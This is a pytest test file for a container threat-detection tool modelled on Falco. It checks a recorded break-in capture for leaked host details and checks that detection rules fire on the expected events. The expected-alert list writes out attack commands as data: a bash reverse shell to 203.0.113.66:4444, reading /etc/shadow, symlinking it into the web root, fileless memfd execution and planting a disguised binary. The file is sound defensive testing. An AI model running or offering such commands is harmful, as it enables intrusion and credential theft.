"""The capture that ships: it tells its tale, and nothing about the machine that recorded it."""

import errno
import hashlib
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

import falcotrace as ft
from falcotrace.capture.footer import (
    Footer,
    Group,
    Host,
    Losses,
    Recording,
    RowGroupEntry,
    User,
    encode_footer,
)
from falcotrace.capture.reader import Capture, open_capture
from falcotrace.events.capabilities import CAPABILITIES
from falcotrace.events.columns import COLUMNS

CAPTURES = Path(__file__).parents[2] / "captures"
FIRST_LIGHT = CAPTURES / "first_light.parquet"
RECORDERS = Path(ft.__file__).parent

SHOP, WORKER, HOST = "5d4c9e0f1b7a", "a81f0c3d9b26", "host"
BREAK_IN = "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
HEALTH_CHECK = "sh -c wget -q -O /dev/null http://127.0.0.1:8080/ || exit 1"

EXPECTED = [
    ("Container with host-like capabilities", SHOP, "lighttpd -D -f /etc/lighttpd/lighttpd.conf"),
    ("Shell in a container", SHOP, HEALTH_CHECK),
    ("Configuration below etc written", HOST, "sh"),
    ("Server program started a shell or a tool", SHOP, "status /srv/www/cgi-bin/status"),
    (
        "Shell in a container",
        SHOP,
        "sh -c echo checking shop; bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
    ),
    ("Shell in a container", SHOP, BREAK_IN),
    ("System program connected to the network", SHOP, BREAK_IN),
    ("Standard stream redirected to a connection", SHOP, BREAK_IN),
    ("Standard stream redirected to a connection", SHOP, BREAK_IN),
    ("Standard stream redirected to a connection", SHOP, BREAK_IN),
    ("Shell in a container", SHOP, "bash -i"),
    ("Password hashes read", SHOP, "cat /etc/shadow"),
    ("Link to a credential file", SHOP, "ln -s /etc/shadow /srv/www/robots.bak"),
    ("File created below dev", SHOP, "cp /srv/www/robots.bak /dev/.cache"),
    ("New program executed in a container", SHOP, "kworker"),
    ("Program executed from memory", SHOP, "memfd:x"),
    ("Program placed in a binary directory", SHOP, "cp /tmp/.x/kworker /usr/local/bin/free"),
    ("Password hashes read", HOST, "tar -c -z -f /var/backups/etc.tar.gz -C / etc"),
    ("Shell in a container", WORKER, "sh -c wc -l /data/orders.csv > /data/count"),
    ("Configuration below etc written", SHOP, "bash -i"),
    ("Standard stream redirected to a connection", SHOP, "bash -i"),
    ("Shell in a container", SHOP, HEALTH_CHECK),
    ("Shell in a container", SHOP, "sh"),
]
"""Rule, container and command line of each alert of the shipped rules, in order."""

OFFICIAL = {
    "Create Symlink Over Sensitive Files": 1,
    "Create files below dev": 1,
    "Delete or rename shell history": 2,
    "Drop and execute new binary in container": 1,
    "Fileless execution via memfd_create": 1,
    "Launch Excessively Capable Container": 1,
    "Launch Ingress Remote File Copy Tools in Container": 3,
    "Launch Sensitive Mount Container": 2,
    "Non sudo setuid": 3,
    "Read sensitive file untrusted": 2,
    "Redirect STDOUT/STDIN to Network Connection in Container": 4,
    "Reverse Shell from Web Server": 4,
    "Run shell untrusted": 2,
    "Schedule Cron Jobs": 1,
    "System procs network activity": 1,
    "Terminal shell in container": 1,
    "User mgmt binaries": 1,
    "Web Server Spawned Shell": 3,
    "Write below etc": 1,
    "Write below monitored dir": 1,
}
"""Alerts by rule with all three of Falco's rule files."""

PROGRAMS = frozenset(
    {"backup", "bash", "busybox", "cat", "chmod", "cp", "crond", "gzip", "hostname", "id", "init"}
    | {"kworker", "lighttpd", "ln", "login", "ls", "memfd:x", "mkdir", "sh", "status", "tar"}
    | {"wc", "wget"}
)
PROGRAM_COLUMNS = (
    *("proc.name", "proc.pname", "proc.aname", "proc.comm", "proc.sname"),
    *("proc.vpgid_name", "proc.pgid_name", "evt.arg.comm"),
)
ADDRESSES = frozenset(
    {"127.0.0.1", "0.0.0.0", "172.17.0.2", "198.51.100.7", "198.51.100.23", "203.0.113.66"}
    | {"127.0.1.1"}
)
FOLDERS = re.compile(
    r"/(\.init_enable_core|SRV|bin|cgi-bin|data|dev|docker|etc|home/ops|kworker|lib|memfd"
    r"|prices\.html|proc/self|robots\.bak|root|run|sbin|srv|tcp|tmp/\.x|usr|var)?(/|$)"
)
"""Where absolute paths in the capture may begin; requests to the server are paths too."""

OTHER_WORDS = """
    bash_history bash_logout bashrc glibc gnu gzip hushlogin hwcaps init_enable_core inputrc libc
    libnettle libpcre2 libxxhash localtime nologin nscd nsswitch preload profile security share
    terminfo tls utmp utmpx wtmp wtmpx x86_64 SRV WWW

    CGI CONTENT_LENGTH DOCUMENT_ROOT GATEWAY_INTERFACE HTTP_ACCEPT_ENCODING HTTP_HOST LOGNAME PWD
    REDIRECT_STATUS REMOTE_ADDR REMOTE_PORT REQUEST_METHOD REQUEST_SCHEME REQUEST_URI SHELL SHLVL
    SCRIPT_FILENAME SCRIPT_NAME SERVER_ADDR SERVER_NAME SERVER_PROTOCOL SERVER_SOFTWARE TERM USER
    vt102

    cpuset devices freezer hugetlb net_cls net_prio perf_event AT_FDCWD NONE
    a81f0c3d9b267e5f4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6
"""
"""Files that the C library, bash, busybox and lighttpd look for on any Debian; their environments;
control groups and texts of special numbers."""

FOOTER_WORDS = frozenset(
    name
    for part in (Footer, Group, Host, Losses, Recording, RowGroupEntry, User)
    for name in part.__struct_fields__
)


@pytest.fixture(scope="module")
def capture() -> Iterator[Capture]:
    """The shipped capture."""
    with open_capture(FIRST_LIGHT) as opened:
        yield opened


@pytest.fixture(scope="module")
def texts(capture: Capture) -> dict[str, set[str]]:
    """Every distinct text by column; buffers decoded, process tables and footer included."""
    found: dict[str, set[str]] = {"footer": {encode_footer(capture.footer).decode()}}
    for group in capture.row_groups:
        states = capture.process_table(group.index)
        columns = capture.read(group.index, list(COLUMNS))
        for path, array in [
            *columns.items(),
            *zip(states.column_names, states.columns, strict=True),
        ]:
            if COLUMNS[path].is_text or path.startswith("evt.arg."):
                found.setdefault(path, set()).update(_flatten(array.to_pylist()))
    return found


def _flatten(values: list[object]) -> Iterator[str]:
    for value in values:
        if isinstance(value, list):
            yield from map(str, value)
        elif isinstance(value, bytes):
            yield value.decode("latin-1")
        elif value is not None:
            yield str(value)


def test_capture_is_small_and_has_its_provenance() -> None:
    """The file stays below 1 MB, and PROVENANCE.md is about this very file."""
    raw = FIRST_LIGHT.read_bytes()
    assert len(raw) < 1_000_000
    assert hashlib.sha256(raw).hexdigest() in (CAPTURES / "PROVENANCE.md").read_text()


def test_every_program_is_of_the_tale(texts: dict[str, set[str]]) -> None:
    """No process of the recording machine is there, not as an ancestor or a leader either."""
    for path in PROGRAM_COLUMNS:
        assert texts[path] <= PROGRAMS | {""}, path
    by_pid = {"evt.arg.pid", "evt.arg.ptid", "evt.arg.tid", "evt.arg.pgid", "evt.arg.reaper_tid"}
    for path in by_pid:
        assert {text for text in texts[path] if not text.isdigit()} <= PROGRAMS, path


def test_every_path_and_address_is_of_the_tale(texts: dict[str, set[str]]) -> None:
    """No folder, control group or address of the recording machine is in any text."""
    for path, values in texts.items():
        whole = "\n".join(values)
        folders = re.findall(r"(?<![\w.<])/[\w./+-]*", whole.replace("http://", ""))
        assert [item for item in folders if not FOLDERS.match(item)] == [], path
        addresses = set(re.findall(r"\d+\.\d+\.\d+\.\d+", whole))
        assert addresses <= ADDRESSES, path


def test_every_word_is_the_recorders_or_the_makers(texts: dict[str, set[str]]) -> None:
    """A word that the tables, the files in captures/make and this list lack came from elsewhere."""
    makers = [path for path in (CAPTURES / "make").rglob("*") if path.suffix != ".pyc"]
    files = [*RECORDERS.rglob("*.tsv"), *(path for path in makers if path.is_file())]
    known = set(_words("\n".join([OTHER_WORDS, *(path.read_text() for path in files)])))
    known |= {*FOOTER_WORDS, *errno.errorcode.values(), *CAPABILITIES}
    strange = {path: set(_words("\n".join(values))) - known for path, values in texts.items()}
    assert {path: words for path, words in strange.items() if words} == {}


def _words(text: str) -> Iterator[str]:
    for word in re.findall(r"\b[^\W\d]\w{2,}", text):
        if not re.fullmatch(r"(?=.*\d)[0-9A-F]+", word):
            yield word


def test_footer_names_nobody(capture: Capture) -> None:
    """Host, users and settings are those of the tale."""
    host, recording = capture.footer.host, capture.footer.recording
    assert (host.hostname, host.boot_id, host.boot_time_ns) == ("web-1", "", 0)
    assert re.fullmatch(r"[\d.]+", host.kernel)
    assert (recording.settings, recording.left_out_pids) == ({}, [])
    assert [user.name for user in capture.footer.users] == ["root", "ops"]


def test_capture_is_complete_and_numbered(capture: Capture) -> None:
    """Nothing was lost, and `evt.num` counts from 1 without gaps."""
    assert capture.footer.losses.is_known
    assert capture.footer.losses.lost_count == 0
    numbers = [
        number
        for group in capture.row_groups
        for number in capture.read(group.index, ["evt.num"])["evt.num"].to_pylist()
    ]
    assert sorted(numbers) == list(range(1, capture.row_count + 1))


def test_shipped_rules_fire_where_expected() -> None:
    """Each of the shipped rules fires on what it is for, and on nothing else."""
    plan = ft.rules()
    with ft.open(FIRST_LIGHT) as opened:
        alerts = sorted(opened.scan(plan), key=lambda alert: alert.num)
        found = [
            (alert.rule.name, fields["container.id"], fields["proc.cmdline"])
            for alert in alerts
            for fields in [alert.output_fields]
        ]
    links = {rule for rule, _, _ in EXPECTED}
    assert found == EXPECTED
    assert links == {rule.name for rule in plan.rules}


def test_official_rules_fire_where_expected(shared: Path) -> None:
    """Falco's own rules see the same break-in."""
    names = ("falco_rules", "falco-incubating_rules", "falco-sandbox_rules")
    plan = ft.rules(*(shared / "falco-rules" / f"{name}.yaml" for name in names))
    with ft.open(FIRST_LIGHT) as opened:
        assert Counter(alert.rule.name for alert in opened.scan(plan)) == OFFICIAL
